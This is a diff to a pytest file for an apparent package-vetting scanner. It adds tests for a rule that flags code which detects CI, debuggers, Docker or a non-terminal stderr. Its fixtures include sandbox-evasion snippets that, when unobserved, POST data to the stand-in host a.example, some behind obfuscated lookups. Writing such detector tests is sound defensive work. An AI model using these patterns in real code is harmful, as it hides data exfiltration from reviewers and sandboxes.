@@ -2,7 +2,8 @@
 
 import pytest
 
-from tests.checks.conftest import fresh, lines, npm
+from tests.checks.conftest import fresh, lines, npm, wheel
+from tests.factories import subject
 from vetting.checks import Context
 from vetting.checks.static_rules import StaticRules
 
@@ -81,6 +82,124 @@ def test_only_more_is_printed(context: Context, source: str) -> None:
 )
 def test_more_hangs_on_it(context: Context, source: str) -> None:
     assert severity(context, source) == ["medium"]
+
+
+BANNER = (
+    HEAD
+    + "const marks = () => [process.env.CI, inspector.url() !== undefined, !process.stderr.isTTY];\n"
+    "const quiet = () => marks().some(Boolean);\n"
+    "function banner() {\n  if (quiet()) {\n    console.error('x');\n    return;\n  }\n"
+    "  console.error('\\x1b[36mx');\n}\n"
+)
+MAIN = "async function main() {\n  %s\n  await serve(1);\n}\nmain();\n"
+
+
+@pytest.mark.parametrize(
+    ("asks", "expected"),
+    [
+        ("banner();", "low"),
+        ("if (banner()) return;", "medium"),
+        ("if (quiet()) return;", "medium"),
+        (f"quiet() || {SEND};", "medium"),
+        (f"banner({SEND});", "medium"),
+    ],
+)
+def test_one_caller_only_prints(context: Context, asks: str, expected: str) -> None:
+    assert severity(context, BANNER + MAIN % asks) == [expected]
+
+
+PYTHON = """import os
+import sys
+from pathlib import Path
+import requests
+MARKS = ("CI", "GITHUB_ACTIONS")
+def quiet():
+    marks = (
+        sys.gettrace() is not None,
+        any(k in os.environ for k in MARKS),
+        Path("/.dockerenv").exists(),
+        not sys.stderr.isatty(),
+    )
+    return any(marks)
+def banner():
+    if quiet():
+        print("x", file=sys.stderr)
+        return
+    print("\\033[36mx", file=sys.stderr)
+%s
+def main():
+    %s
+    serve()
+"""
+AWAY = "requests.post('https://a.example', data='x')"
+
+
+def python(context: Context, source: str, **others: str) -> list[str]:
+    files = {"look.py": source, **{f"{name}.py": text for name, text in others.items()}}
+    found = lines(StaticRules().run(subject(wheel(files)), fresh(context)))
+    return [line.split()[0] for line in found if "text/sandbox-probe look.py" in line]
+
+
+@pytest.mark.parametrize(
+    ("above", "asks"),
+    [
+        ("", "banner()"),
+        ("", "if quiet(): print('x')"),
+        ("", "print('x' if quiet() else 'y')"),
+        ("def width():\n    return 80 if quiet() else 120\n", "print('-' * width())"),
+        ("def colours():\n    return not quiet()\n", "if not colours():\n        print('plain')"),
+    ],
+)
+def test_only_more_is_printed_in_python(context: Context, above: str, asks: str) -> None:
+    assert python(context, PYTHON % (above, asks)) == ["low"]
+
+
+@pytest.mark.parametrize(
+    ("above", "asks"),
+    [
+        ("", f"if not quiet(): {AWAY}"),
+        ("", "if quiet(): return"),
+        ("", "if quiet(): sys.exit(0)"),
+        ("", f"still = quiet()\n    if not still: {AWAY}"),
+        ("", f"quiet() or {AWAY}"),
+        ("", f"[quiet] and {AWAY}"),
+        ("", f"banner() or {AWAY}"),
+        ("", "threading.Timer(quiet(), act)"),
+        ("def asks():\n    return quiet()\n", f"if not asks(): {AWAY}"),
+        (f"def asks():\n    if not quiet(): {AWAY}\n", "asks()"),
+        ("STILL = quiet()\n", f"if not STILL: {AWAY}"),
+        ("def print(text, **more): act(text)\n", "banner()"),
+        ("class Any:\n    quiet = staticmethod(quiet)\n", f"Any.quiet() or {AWAY}"),
+        ("", f"globals()['qui' + 'et']() or {AWAY}"),
+        ("", f"sys.modules[__name__].quiet() or {AWAY}"),
+        ("sys.stderr = Sender()\n", "banner()"),
+        ("sys.stderr.write = send\n", "banner()"),
+        ("def asks(out=sys.stderr):\n    out.write(str(quiet()))\n", "asks(Sender())"),
+        ("def asks():\n    if not quiet(): raise OSError\n", "asks()"),
+        ("def asks():\n    while not quiet(): pass\n", "asks()"),
+        ("def asks():\n    MARKS[0] = quiet()\n", "asks()"),
+        ("def asks():\n    global MARKS\n    MARKS = quiet()\n", "asks()"),
+    ],
+)
+def test_more_hangs_on_it_in_python(context: Context, above: str, asks: str) -> None:
+    assert python(context, PYTHON % (above, asks)) == ["medium"]
+
+
+@pytest.mark.parametrize(
+    ("other", "expected"),
+    [
+        ("from look import main\nmain()\n", "low"),
+        (f"from look import quiet\nquiet() or {AWAY}\n", "medium"),
+        (f"import look\nlook.quiet() or {AWAY}\n", "medium"),
+        (f"import look\ngetattr(look, 'qui' + 'et')() or {AWAY}\n", "medium"),
+        ("import builtins\nbuiltins.print = send\n", "medium"),
+        ("import sys\nsys.stderr = Sender()\n", "medium"),
+    ],
+)
+def test_what_another_module_does_with_an_answer(
+    context: Context, other: str, expected: str
+) -> None:
+    assert python(context, PYTHON % ("", "banner()"), other=other) == [expected]
 
 
 @pytest.mark.parametrize(
